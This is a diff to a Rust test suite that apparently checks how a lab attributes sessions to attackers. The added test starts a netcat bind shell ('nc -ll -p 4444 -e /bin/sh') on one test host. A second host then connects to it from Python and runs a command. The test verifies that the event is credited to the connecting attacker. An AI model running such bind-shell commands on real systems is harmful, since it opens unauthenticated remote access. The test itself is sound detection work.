@@ -153,6 +153,16 @@ fn each_of_two_attackers_on_one_host_has_their_own_session() {
     let around =
         "(nc -l -p 9 -e /bin/true around &) ; for i in $(seq 100); do nc -w 1 192.0.2.11 9 </dev/null && break; done";
     assert_eq!(run("192.0.2.3", around, "around"), second);
+    // Who finds a shell that somebody else has left open is not whoever left it, though it never asks.
+    let open = "(nc -ll -p 4444 -e /bin/sh </dev/null >/dev/null 2>&1 &) ; \
+                while ! grep -q ':115C ' /proc/net/tcp /proc/net/tcp6; do :; done; /bin/true open";
+    run("192.0.2.2", open, "open");
+    let find = "import socket\n\
+                s = socket.create_connection(('192.0.2.11', 4444), 20, ('192.0.2.3', 0))\n\
+                s.sendall(b'/bin/true bound\\n'); s.shutdown(1); s.recv(9)";
+    lab.attacker.sh(&["python3", "-c", find]);
+    let (event, _) = wait_program(&lab, "192.0.2.11", "bound");
+    assert_eq!((&event["src"]["ip"], &event["session"]), (&"192.0.2.3".into(), &second.as_str().into()));
 }
 
 #[test]
